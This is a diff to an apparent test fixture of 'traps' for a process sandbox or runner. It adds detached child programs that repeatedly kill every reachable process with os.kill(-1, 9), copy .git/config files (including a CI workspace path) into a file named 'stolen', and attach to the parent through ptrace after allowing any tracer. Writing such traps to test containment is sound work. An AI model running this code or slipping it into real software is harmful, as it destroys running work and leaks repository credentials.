@@ -3,11 +3,13 @@
 Its first argument names the trap.  Whatever starts the program `payload` leaves the file `ran`.
 """
 
+import ctypes
 import json
 import os
 import shutil
 import subprocess
 import sys
+import time
 from contextlib import suppress
 from pathlib import Path
 
@@ -197,6 +199,57 @@ def bombs():
         (HERE / f"file-{number}").touch()
     for _ in range(40):
         subprocess.Popen(["/bin/sleep", "600"], start_new_session=True)
+
+
+KILLER = """
+import os
+open(f"killer-{os.getpid()}", "w").close()
+while True:
+    try:
+        os.kill(-1, 9)
+    except OSError:
+        pass
+    for name in ("../.git/config", ".git/config", "/github/workspace/.git/config"):
+        try:
+            text = open(name).read()
+        except OSError:
+            continue
+        if text:
+            open("stolen", "a").write(text)
+"""
+
+
+def killer():
+    """Kill, until all is over, whatever is to end it, and read what is opened then."""
+    for _ in range(2):
+        detached(KILLER)
+    time.sleep(600)  # the first one to begin kills all but itself, us included
+
+
+TRACER = """
+import ctypes, sys, time
+libc = ctypes.CDLL(None)
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+if libc.ptrace(0x4206, int(sys.argv[1]), None, None) == 0:  # PTRACE_SEIZE
+    open(f"traced-{sys.argv[1]}", "w").close()
+time.sleep(600)
+"""
+
+
+def traced():
+    """Be traced by a process that never takes note of our end."""
+    allow = 0x59616D61  # PR_SET_PTRACER, anybody
+    ctypes.CDLL(None).prctl(allow, ctypes.c_ulong(2**64 - 1), 0, 0, 0)
+    detached(TRACER, str(os.getpid()))
+    until = time.monotonic() + 30
+    while not (HERE / f"traced-{os.getpid()}").exists() and time.monotonic() < until:
+        time.sleep(0.01)
+
+
+def detached(code, *given):
+    none = subprocess.DEVNULL
+    streams = {"stdin": none, "stdout": none, "stderr": none}
+    subprocess.Popen([sys.executable, "-c", code, *given], start_new_session=True, **streams)
 
 
 if __name__ == "__main__":
